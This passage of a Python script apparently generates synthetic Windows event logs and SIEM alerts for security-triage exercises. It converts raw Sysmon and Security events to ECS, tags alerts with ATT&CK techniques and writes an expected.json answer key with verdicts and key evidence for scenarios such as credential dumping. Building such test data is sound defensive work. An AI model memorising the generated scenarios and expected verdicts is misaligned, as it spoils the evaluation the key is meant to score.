        "DestinationHostname",
        "Protocol",
        "User",
    },
    (POWERSHELL, 4104): {
        "ExecutionProcessID",
        "ScriptBlockText",
        "ScriptBlockId",
        "Path",
        "AccountName",
        "Domain",
        "UserID",
    },
}
ENVELOPE = {
    "@timestamp",
    "EventTime",
    "Hostname",
    "host",
    "Channel",
    "SourceName",
    "EventID",
    "EventType",
    "RecordNumber",
}


def split_user(qualified: str) -> tuple[str, str]:
    domain, _, name = qualified.partition("\\")
    return name, domain


def to_ecs(raw: dict[str, Any]) -> dict[str, Any]:
    """Flat dotted ECS for a raw event, the way a Winlogbeat-fed SIEM would hold it."""
    channel, event_id = raw["Channel"], raw["EventID"]
    categories, types = ECS_CATEGORIES.get((channel, event_id), (["host"], ["info"]))
    ecs: dict[str, Any] = {
        "@timestamp": raw["@timestamp"],
        "event.code": str(event_id),
        "event.category": categories,
        "event.type": types,
        "event.kind": "event",
        "event.provider": raw["SourceName"],
        "event.created": raw["@timestamp"],
        "host.name": raw["Hostname"],
        "host.hostname": raw["Hostname"].split(".")[0].lower(),
        "winlog.channel": channel,
        "winlog.event_id": str(event_id),
        "winlog.record_id": str(raw["RecordNumber"]),
        "winlog.computer_name": raw["Hostname"],
        "winlog.provider_name": raw["SourceName"],
        "agent.type": "winlogbeat",
        "agent.version": "8.15.3",
        "ecs.version": "8.11.0",
    }
    if channel == SYSMON and event_id == 1:
        name, domain = split_user(raw["User"])
        hashes = dict(part.split("=", 1) for part in raw["Hashes"].split(","))
        ecs.update(
            {
                "process.pid": int(raw["ProcessId"]),
                "process.entity_id": raw["ProcessGuid"],
                "process.executable": raw["Image"],
                "process.name": short_name(raw["Image"]),
                "process.command_line": raw["CommandLine"],
                "process.working_directory": raw["CurrentDirectory"],
                "process.hash.sha256": hashes["SHA256"].lower(),
                "process.hash.sha1": hashes["SHA1"].lower(),
                "process.hash.md5": hashes["MD5"].lower(),
                "process.pe.company": raw["Company"],
                "process.pe.description": raw["Description"],
                "process.pe.original_file_name": raw["OriginalFileName"],
                "process.pe.product": raw["Product"],
                "process.parent.pid": int(raw["ParentProcessId"]),
                "process.parent.entity_id": raw["ParentProcessGuid"],
                "process.parent.executable": raw["ParentImage"],
                "process.parent.name": short_name(raw["ParentImage"]),
                "process.parent.command_line": raw["ParentCommandLine"],
                "user.name": name,
                "user.domain": domain,
            }
        )
    elif channel == SECURITY and event_id == 4688:
        ecs.update(
            {
                "process.pid": int(raw["NewProcessId"], 16),
                "process.executable": raw["NewProcessName"],
                "process.name": short_name(raw["NewProcessName"]),
                "process.command_line": raw["CommandLine"],
                "process.parent.pid": int(raw["ProcessId"], 16),
                "process.parent.executable": raw["ParentProcessName"],
                "process.parent.name": short_name(raw["ParentProcessName"]),
                "user.name": raw["SubjectUserName"],
                "user.domain": raw["SubjectDomainName"],
                "user.id": raw["SubjectUserSid"],
            }
        )
    elif channel == SYSMON and event_id == 3:
        name, domain = split_user(raw["User"])
        ecs.update(
            {
                "process.pid": int(raw["ProcessId"]),
                "process.entity_id": raw["ProcessGuid"],
                "process.executable": raw["Image"],
                "process.name": short_name(raw["Image"]),
                "source.ip": raw["SourceIp"],
                "source.port": int(raw["SourcePort"]),
                "source.domain": raw["SourceHostname"],
                "destination.ip": raw["DestinationIp"],
                "destination.port": int(raw["DestinationPort"]),
                "destination.domain": raw["DestinationHostname"],
                "network.transport": raw["Protocol"],
                "network.direction": "egress" if raw["Initiated"] == "true" else "ingress",
                "user.name": name,
                "user.domain": domain,
            }
        )
    elif channel == POWERSHELL and event_id == 4104:
        ecs.update(
            {
                "process.pid": raw["ExecutionProcessID"],
                "powershell.file.script_block_text": raw["ScriptBlockText"],
                "powershell.file.script_block_id": raw["ScriptBlockId"],
                "file.path": raw["Path"],
                "user.name": raw["AccountName"],
                "user.domain": raw["Domain"],
                "user.id": raw["UserID"],
            }
        )
    elif channel == SECURITY and event_id == 4799:
        ecs.update(
            {
                "group.name": raw["TargetUserName"],
                "group.domain": raw["TargetDomainName"],
                "group.id": raw["TargetSid"],
                "process.pid": int(raw["CallerProcessId"], 16),
                "process.executable": raw["CallerProcessName"],
                "process.name": short_name(raw["CallerProcessName"]),
                "user.name": raw["SubjectUserName"],
                "user.domain": raw["SubjectDomainName"],
                "user.id": raw["SubjectUserSid"],
            }
        )
    elif channel == SYSTEM and event_id == 7045:
        ecs.update(
            {
                "service.name": raw["ServiceName"],
                "service.type": raw["ServiceType"],
                "user.name": raw["AccountName"],
                "user.domain": raw["Domain"],
                "user.id": raw["UserID"],
            }
        )
    for key, value in raw.items():
        if key not in ENVELOPE and key not in ECS_MAPPED.get((channel, event_id), ()):
            ecs[f"winlog.event_data.{key}"] = value
    return ecs


def nest(flat: dict[str, Any]) -> dict[str, Any]:
    """Dotted keys -> nested objects ("@timestamp" stays on top)."""
    nested: dict[str, Any] = {}
    for key, value in flat.items():
        if key.startswith("winlog.event_data."):
            parts = ["winlog", "event_data", key.removeprefix("winlog.event_data.")]
        else:
            parts = key.split(".")
        node = nested
        for part in parts[:-1]:
            node = node.setdefault(part, {})
        node[parts[-1]] = value
    return nested


def assign_record_numbers(world: World) -> None:
    """Per host and channel, in true event order across all files, like the Windows event log."""
    counters: dict[tuple[str, str], int] = {}
    for item in sorted(world.events, key=lambda e: (e.at, e.seq)):
        key = (item.data["Hostname"], item.data["Channel"])
        if key not in counters:
            counters[key] = world.rng.randint(40_000, 900_000)
        counters[key] += 1
        item.data["RecordNumber"] = counters[key]


def alert_document(spec: AlertSpec) -> dict[str, Any]:
    raw = spec.trigger
    proc = spec.process
    executable = spec.executable or (proc.image if proc else None)
    process = None
    hashes: list[str] = []
    if proc is not None:
        sha256 = (
            sha256_of_hashes(proc.event["Hashes"]).lower() if proc.event else None
        )  # ECS spells hashes in lower case
        hashes = [sha256] if sha256 else []
        process = {
            "executable": executable,
            "command_line": proc.cmd,
            "pid": proc.pid,
            "entity_id": proc.guid,
            "parent_executable": proc.parent.image if proc.parent else None,
            "parent_command_line": proc.parent.cmd if proc.parent else None,
            "parent_pid": proc.parent.pid if proc.parent else None,
            "parent_entity_id": proc.parent.guid if proc.parent else None,
            "hash_sha256": sha256,
        }
    tags = [f"attack.{tactic.replace('-', '_')}" for tactic in spec.tactics] + [
        f"attack.{t.lower()}" for t in spec.techniques
    ]
    return {
        "id": spec.id,
        "source": "local",
        "rule_name": spec.rule_name,
        "rule_id": str(uuid.uuid5(NAMESPACE, spec.rule_name)),
        "severity": spec.severity,
        "description": spec.description,
        "timestamp": raw["@timestamp"],
        "first_seen": raw["@timestamp"],
        "last_seen": raw["@timestamp"],
        "techniques": spec.techniques,
        "tactics": spec.tactics,
        "tags": tags,
        "entities": {
            "hosts": [spec.host],
            "users": [spec.user],
            "processes": [executable] if executable else [],
            "ips": spec.ips,
            "hashes": hashes,
            "files": spec.files,
        },
        "process": process,
        "event": to_ecs(raw),
        "raw": raw,
    }


def org_document(world: World) -> dict[str, Any]:
    return {
        "domain": DOMAIN,
        "dns_domain": DNS_DOMAIN,
        "window": {"start": iso_z(START), "end": iso_z(END)},
        "collector_local_offset_hours": int(LOCAL_OFFSET.total_seconds() // 3600),
        "hosts": {
            name: {
                "fqdn": h.fqdn,
                "ip": h.ip,
                "role": h.role,
                "tier": TIERS.get(name, 1 if h.is_server else 2),
                "user": h.user.name if h.user else None,
            }
            for name, h in world.hosts.items()
        },
        "accounts": {name: {"sid": a.sid, "kind": a.kind} for name, a in world.accounts.items()},
        "known_software": [
            {
                "name": "ContosoMonitor",
                "paths": [r"C:\Program Files\ContosoMonitor\cmagent.exe", r"C:\Program Files\ContosoMonitor\scripts\\"],
                "runs_as": "NT AUTHORITY\\SYSTEM",
            },
            {
                "name": "ContosoBackup",
                "paths": [r"C:\Program Files\ContosoBackup\cbagent.exe"],
                "runs_as": "CONTOSO\\svc_backup",
            },
            {
                "name": "ContosoDeploy",
                "paths": [r"C:\Program Files\ContosoDeploy\\", r"C:\Windows\ContosoDeployRunner\runner.exe"],
                "service": "ContosoDeployRunner",
                "source_host": "SRV-DEPLOY01",
                "account": "CONTOSO\\svc_deploy",
            },
            {
                "name": "Sysinternals",
                "paths": [r"C:\Tools\Sysinternals\\"],
                "signer": "Sysinternals - www.sysinternals.com",
            },
        ],
        "external_ips": {"common": sorted(ip for ip, _ in COMMON_DESTS.values()), "attacker": [C2_S1, C2_S2, C2_S3]},
    }


def build(seed: int = SEED) -> tuple[World, list[AlertSpec], list[Truth]]:
    world = World(seed)
    background(world)
    scenarios = [
        scenario_credential_dumping,
        scenario_encoded_stager,
        scenario_wmi_dc,
        scenario_procdump,
        scenario_monitoring,
        scenario_deployment,
    ]
    results = [scenario(world) for scenario in scenarios]
    assign_record_numbers(world)
    return world, [alert for alert, _ in results], [truth for _, truth in results]


def write_lines(path: Path, rows: list[dict[str, Any]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="\n") as handle:
        for row in rows:
            handle.write(json.dumps(row, ensure_ascii=False, separators=(",", ":")) + "\n")


def write_json(path: Path, value: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(value, ensure_ascii=False, indent=2) + "\n", encoding="utf-8", newline="\n")


def by_bucket(world: World) -> Iterator[tuple[str, list[dict[str, Any]]]]:
    buckets: dict[str, list[Emitted]] = {}
    for item in world.events:
        buckets.setdefault(item.bucket, []).append(item)
    for name in sorted(buckets):
        items = sorted(buckets[name], key=lambda e: (e.data["@timestamp"], e.seq))
        yield name, [item.data for item in items]


def write_all(out: Path, seed: int = SEED) -> dict[str, int]:
    world, alerts, truths = build(seed)
    for stale in [*out.glob("events/*.ndjson"), *out.glob("events/ecs/*.ndjson"), *out.glob("alerts/*.json")]:
        stale.unlink()
    counts: dict[str, int] = {}
    files_of: dict[str, list[str]] = {}
    for name, rows in by_bucket(world):
        if name.startswith("ecs:"):
            scenario = name.removeprefix("ecs:")
            relative = f"events/ecs/{scenario}_ecs.ndjson"
            write_lines(out / relative, [nest(to_ecs(row)) for row in rows])
        else:
            scenario, relative = name, f"events/{name}.ndjson"
            write_lines(out / relative, rows)
        files_of.setdefault(scenario, []).append(relative)
        counts[name] = len(rows)
    for spec in alerts:
        write_json(out / "alerts" / f"{spec.id}.json", alert_document(spec))
    write_json(
        out / "expected.json",
        {
            "generated_by": "examples/build_samples.py",
            "seed": seed,
            "org": org_document(world),
            "alerts": {
                truth.alert_id: {
                    "scenario": truth.scenario,
                    "events_files": files_of[truth.scenario],
                    "verdict": truth.verdict,
                    "affected_hosts": truth.affected_hosts,
                    "affected_accounts": truth.affected_accounts,
                    "summary": truth.summary,
                    "key_evidence": truth.key_evidence,
                    "prevalence": truth.prevalence,
                    "notes": truth.notes,
                }
                for truth in truths
            },
        },
    )
    return counts


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=Path(__file__).resolve().parent, help="output folder")
    args = parser.parse_args()
    counts = write_all(args.out)
    print(json.dumps({"events": sum(counts.values()), "files": counts}, indent=2))


if __name__ == "__main__":
    main()
